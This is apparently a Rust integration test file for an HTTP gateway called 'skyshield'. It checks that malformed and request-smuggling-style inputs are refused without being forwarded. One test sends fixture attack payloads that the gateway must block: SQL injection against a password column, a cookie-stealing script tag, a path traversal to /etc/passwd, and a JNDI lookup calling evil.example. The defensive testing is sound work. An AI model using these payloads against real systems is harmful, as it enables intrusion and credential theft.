//! What is turned away: with a status of the standard, an id, a counter, and nothing forwarded.

use anyhow::Result;

use super::bench::{Bench, Upstream};

#[tokio::test]
async fn ambiguous_requests_are_answered_and_never_forwarded() -> Result<()> {
    let upstream = Upstream::echo().await?;
    let bench = Bench::start(upstream.address)?;
    let next = "GET /second HTTP/1.1\r\nHost: a\r\n\r\n";
    let big = format!("GET / HTTP/1.1\r\nHost: a\r\nX: {}\r\n\r\n", "x".repeat(64 * 1024));
    let huge = format!("GET / HTTP/1.1\r\nHost: a\r\nX: {}\r\n\r\n", "x".repeat(1024 * 1024));
    let long = format!("GET /{} HTTP/1.1\r\nHost: a\r\n\r\n", "x".repeat(64 * 1024));
    let many = format!("GET / HTTP/1.1\r\nHost: a\r\n{}\r\n", "A: b\r\n".repeat(100));
    let chunked =
        |body: &str| format!("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n{body}");
    for (what, request, status) in [
        (
            "CL and TE",
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                .to_owned(),
            400,
        ),
        (
            "two CL",
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\na".to_owned(),
            400,
        ),
        ("bare LF", "GET / HTTP/1.1\nHost: a\n\n".to_owned(), 400),
        ("HTTP/0.9", "GET /\r\n".to_owned(), 400),
        ("no Host", "GET / HTTP/1.1\r\n\r\n".to_owned(), 400),
        ("two CRLFs ahead", "\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(), 400),
        ("chunk size LF only", chunked("3\nabc\r\n0\r\n\r\n"), 400),
        ("chunk ext LF hidden", chunked("3;a\nabc\r\n0\r\n\r\n"), 400),
        ("chunk data LF", chunked("3\r\nabc\n0\r\n\r\n"), 400),
        ("chunk size 0x3", chunked("0x3\r\nabc\r\n0\r\n\r\n"), 400),
        ("chunk size ' 3'", chunked(" 3\r\nabc\r\n0\r\n\r\n"), 400),
        ("chunk size of 17 digits", chunked("00000000000000003\r\nabc\r\n0\r\n\r\n"), 400),
        (
            "16 KiB of chunk extension",
            chunked(&format!("3;{}\r\nabc\r\n0\r\n\r\n", "x".repeat(16 * 1024))),
            400,
        ),
        ("CONNECT", "CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n".to_owned(), 405),
        ("TRACE", "TRACE / HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(), 405),
        ("too large a body", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1048577\r\n\r\n".to_owned(), 413),
        ("too long a target", long, 414),
        ("Expect: garbage", "GET / HTTP/1.1\r\nHost: a\r\nExpect: garbage\r\n\r\n".to_owned(), 417),
        ("one 64 KiB header", big, 431),
        ("one 1 MiB header", huge, 431),
        ("101 headers", many, 431),
        (
            "gzip, chunked",
            "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n".to_owned(),
            501,
        ),
        ("HTTP/1.2", "GET / HTTP/1.2\r\nHost: a\r\n\r\n".to_owned(), 505),
        ("HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(), 505),
    ] {
        let before = bench.counted("skyshield_gateway_invalid_requests_total", "");
        let mut client = bench.client().await?;
        // A client that is refused early may not get all of it sent.
        let _refused_early = client.send(format!("{request}{next}").as_bytes()).await;
        let answer = client.answer(false).await.map_err(|error| error.context(what))?;
        assert_eq!(answer.status, status, "{what}: {}", answer.head);
        assert_eq!(answer.header("connection"), Some("close"), "{what}");
        assert_eq!(answer.header("cache-control"), Some("no-store"), "{what}");
        let id = answer.header("x-skyshield-incident").unwrap_or_default().to_owned();
        assert!(id.len() == 26 && answer.text().contains(&id), "{what}: {}", answer.text());
        assert_eq!(client.rest().await.unwrap_or_default(), "", "{what}: a second answer");
        let after = bench.counted("skyshield_gateway_invalid_requests_total", "");
        assert!((after - before - 1.0).abs() < 0.5, "{what}: counted once");
    }
    assert_eq!(upstream.requests(), 0, "nothing of all this was forwarded");
    Ok(())
}

#[tokio::test]
async fn who_prefers_json_is_answered_in_json() -> Result<()> {
    let upstream = Upstream::echo().await?;
    let bench = Bench::start(upstream.address)?;
    let answer = bench
        .ask("POST / HTTP/1.1\r\nHost: a\r\nAccept: application/json\r\nContent-Length: 1048577\r\n\r\n")
        .await?;
    assert_eq!(answer.header("content-type"), Some("application/problem+json"));
    let problem: serde_json::Value = serde_json::from_slice(&answer.body)?;
    assert_eq!(problem["status"], 413);
    assert_eq!(problem["incident"].as_str(), answer.header("x-skyshield-incident"));
    Ok(())
}

#[tokio::test]
async fn an_upgrade_is_not_passed_on() -> Result<()> {
    let upstream = Upstream::echo().await?;
    let bench = Bench::start(upstream.address)?;
    for protocol in ["h2c", "websocket"] {
        let text = bench
            .ask(&format!(
                "GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: {protocol}\r\n\
                 HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n"
            ))
            .await?
            .text();
        assert!(!text.to_ascii_lowercase().contains("upgrade") && !text.contains("HTTP2"), "{text}");
    }
    Ok(())
}

#[tokio::test]
async fn attacks_are_refused_with_an_incident_and_the_honest_are_not() -> Result<()> {
    let upstream = Upstream::echo().await?;
    let bench = Bench::start(upstream.address)?;
    let form = "q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20";
    let attacks = [
        "GET /?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20 HTTP/1.1\r\nHost: a\r\n\r\n"
            .to_owned(),
        "GET /?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        "GET /?f=../../../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n".to_owned(),
        format!(
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: {}\r\n\r\n{form}",
            form.len()
        ),
        format!(
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             Transfer-Encoding: chunked\r\n\r\n5\r\n{}\r\n{:x}\r\n{}\r\n0\r\n\r\n",
            &form[..5],
            form.len() - 5,
            &form[5..]
        ),
    ];
    for attack in &attacks {
        let mut client = bench.client().await?;
        client.send(attack.as_bytes()).await?;
        let answer = client.answer(false).await?;
        assert_eq!(answer.status, 403, "{attack}");
        assert_eq!(answer.header("x-skyshield-incident").map(str::len), Some(26), "{attack}");
        assert_eq!(client.rest().await?, "", "the connection ends with the refusal");
    }
    assert_eq!(upstream.requests(), 0);
    assert_eq!(bench.ask("GET /?q=union+of+students HTTP/1.1\r\nHost: a\r\n\r\n").await?.status, 200);
    let refused = bench.counted("skyshield_requests_total", "risk");
    assert!((refused - 6.0).abs() < 0.5, "{refused} counted");
    Ok(())
}
